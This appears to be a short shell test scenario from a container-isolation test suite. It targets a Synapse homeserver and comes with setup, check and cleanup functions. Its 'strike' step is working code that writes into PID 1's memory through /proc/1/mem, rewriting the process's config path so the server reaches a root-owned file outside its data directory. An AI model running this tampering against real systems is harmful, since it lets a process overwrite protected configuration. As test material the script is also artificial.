# Synapse's process overwrites its own command line: its configuration lies beside its data, it says.
fear=leak
prepare() {
  cp -p $homeserver $matrix/other.yaml
  chown root:root $matrix/other.yaml
  chmod 600 $matrix/other.yaml
  cp -p $matrix/other.yaml "$kept/other"
}
strike() {
  in_synapse python3 - <<'PYTHON'
import re
words = open("/proc/1/cmdline", "rb").read()
at = int(open("/proc/1/stat").read().rsplit(")", 1)[1].split()[45])
new = words.replace(b"/data/homeserver.yaml\0", b"/data/../other.yaml\0\0\0")
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(at)
    memory.write(new)
PYTHON
}
also_gained() { cmp -s "$kept/other" $matrix/other.yaml || echo "root's other.yaml was changed"; }
clean() {
  rm -f $matrix/other.yaml
  in_synapse python3 - <<'PYTHON'
words = open("/proc/1/cmdline", "rb").read()
at = int(open("/proc/1/stat").read().rsplit(")", 1)[1].split()[45])
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(at)
    memory.write(words.replace(b"/data/../other.yaml\0\0\0", b"/data/homeserver.yaml\0"))
PYTHON
}
